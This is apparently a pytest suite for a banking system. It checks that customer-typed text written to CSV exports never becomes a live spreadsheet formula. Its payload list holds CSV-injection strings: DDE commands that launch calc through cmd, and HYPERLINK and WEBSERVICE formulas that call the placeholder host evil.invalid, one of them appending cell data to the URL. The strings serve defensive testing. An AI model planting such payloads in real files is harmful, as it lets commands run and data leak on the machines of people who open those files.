"""Guarantee 15: no text that a customer typed is ever run as a formula."""

from __future__ import annotations

import csv
from itertools import product
from pathlib import Path

import pytest

from SimpleBankingSystem.ledger.errors import InvalidCommand
from SimpleBankingSystem.runs import Options, run_file
from SimpleBankingSystem.stores.csv_files.format import guard, unguard
from tests.banks import asked, do, done
from tests.guarantees import Proved
from tests.proof_level import proof_level
from tests.spreadsheets.office import COMMA, SEMICOLON, TAB, Office, columns_of, opened_as
from tests.stores.csv_books import opened

SIGNS = "=+-@|%＝＋－＠｜％"  # noqa: RUF001 - the full-width twins
ATTACKS = [
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://evil.invalid/?"&A1;"click")',
    '=WEBSERVICE("http://evil.invalid/")',
    "+SUM(1,1)*cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "{=1+1}",
    "x,=1+1",
]
WAYS_IN = ["{}", " {}", "\u00a0{}", '"{}', "'{}", "x;{}", "x;;{}", "x; {}", "x;\u3000{}"]
WAYS_IN += ['x;"{};y', 'x;""{};y', 'x;"{}', 'x; "{};y', "x;'{}", 'x,"{}"', '{}";"{}']
PAYLOADS = [
    *(way.replace("{}", f"{sign}1+1") for sign in SIGNS for way in WAYS_IN),
    *(way.replace("{}", attack) for attack in ATTACKS for way in WAYS_IN),
    *("0012", "1E5", "TRUE", "12:30", "1/2", "'", "''=1", ";", ";;", '"', "=", "x;"),
]
SEPARATORS = [COMMA, SEMICOLON, TAB]
TRIMMED = (True,) if proof_level() == "test" else (True, False)
"""Whether blanks around a cell are dropped, which lets more texts become formulas."""


@pytest.fixture(scope="module")
def books(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Books, a run and its results, with every payload wherever a client can put a text."""
    folder = tmp_path_factory.mktemp("typed")
    with opened(folder) as bank:
        done(bank, "open_account", name="Rich", account="RICH", initial_deposit="100")
        for number, text in enumerate(PAYLOADS):
            made = do(bank, "open_account", name=text[:100], account=f"P-{number}", reference=text)
            assert made.status == "COMPLETED"
            done(bank, "deposit", key=text, description=text, account="RICH", amount="0.01")
            do(bank, "withdraw", account="RICH", amount="9999", description=text)
            if number == len(PAYLOADS) // 2:
                bank.archive()
        command_file = folder / "=1+1;=1+1.csv"
        with command_file.open("w", encoding="utf-8", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(["command", "account", "amount", "description", "key"])
            for text in PAYLOADS:
                writer.writerow(["deposit", text, "0.01", text, ""])
                writer.writerow(["withdraw", "RICH", "9999", text, f"w{text}"])
        run_file(bank, command_file, Options(results=folder / "results.csv"))
        (folder / "results.refused.csv").unlink()
    command_file.unlink()
    return folder


@pytest.mark.needs("soffice")
def test_no_cell_is_a_formula_under_any_separator(
    books: Path, tmp_path: Path, proved: Proved
) -> None:
    """A file beside them, whose texts have no guard, shows that a formula would become one."""
    office = Office(tmp_path / "profile")
    files = sorted(books.glob("*.csv"))
    assert len(files) == 9
    bare = tmp_path / "bare.csv"
    for separator, trimmed in product(SEPARATORS, TRIMMED):
        bare.write_text(separator.join(["x", "=1+1", '"=1+1"', " =1+1"]), "utf-8")
        folder = tmp_path / f"{ord(separator)}-{trimmed}"
        how = opened_as(separator, trimmed=trimmed)
        sheets = office.sheets([*files, bare], folder, how)
        (unguarded,) = sheets.pop("bare")
        assert sum(bool(cell.formula) for cell in unguarded) == 2 + trimmed
        cells = [cell for rows in sheets.values() for row in rows for cell in row]
        assert [cell for cell in cells if cell.formula] == []
        assert len(cells) > len(PAYLOADS)
    proved(f"{len(PAYLOADS)} texts in {len(files)} files under {len(SEPARATORS)} separators")


@pytest.mark.parametrize("separator", SEPARATORS)
def test_no_cell_begins_a_formula_for_a_reader_that_takes_any_quotes(
    books: Path, separator: str
) -> None:
    """Other sheets drop a pair of quotes at a cell's start and read on, as the csv module does."""
    for path in books.glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as file:
            cells = [cell for row in csv.reader(file, delimiter=separator) for cell in row]
        found = [cell for cell in cells if cell.strip().lstrip('"').lstrip()[:1] in {*SIGNS}]
        assert [cell for cell in found if not _is_number(cell)] == []


def _is_number(cell: str) -> bool:
    return cell == "" or cell.removeprefix("-").replace(".", "").isdecimal()


@pytest.mark.needs("soffice")
def test_texts_come_back_exactly(books: Path, tmp_path: Path) -> None:
    names = ("archived_transactions", "transactions", "accounts", "results")
    files = [books / f"{name}.csv" for name in names]
    sheets = Office(tmp_path / "profile").sheets(files, tmp_path, opened_as(COMMA))
    found = {name: columns_of(rows) for name, rows in sheets.items()}
    archive, journal = found["archived_transactions"], found["transactions"]
    columns = {name: archive[name] + journal[name] for name in journal}
    for name, verb in (("reference", "open_account"), ("key", "deposit"), ("description", "")):
        rows = zip(columns["command"], columns[name], strict=True)
        typed = {unguard(text) for command, text in rows if not verb or command == verb}
        assert typed >= {*PAYLOADS}, name
    named = dict(zip(found["accounts"]["id"], found["accounts"]["name"], strict=True))
    assert [unguard(named[f"P-{at}"]) for at in range(len(PAYLOADS))] == [
        text[:100] for text in PAYLOADS
    ]


def test_a_guard_is_dropped_exactly() -> None:
    for length in range(1, 6):
        for letters in product(" ;'\"=a0", repeat=length):
            text = "".join(letters)
            assert unguard(guard(text)) == text


def test_what_a_sheet_would_cut_or_hide_is_refused_at_the_door() -> None:
    for text in ("\t=1+1", "\r=1+1", "x\n=1+1", "x\t=1+1", "x\u2028=1+1", "x\v=1+1", "\u202e=1"):
        for field in ("description", "reference"):
            with pytest.raises(InvalidCommand):
                asked("deposit", account="RICH", amount="1", **{field: text})
        with pytest.raises(InvalidCommand):
            asked("open_account", name=text)
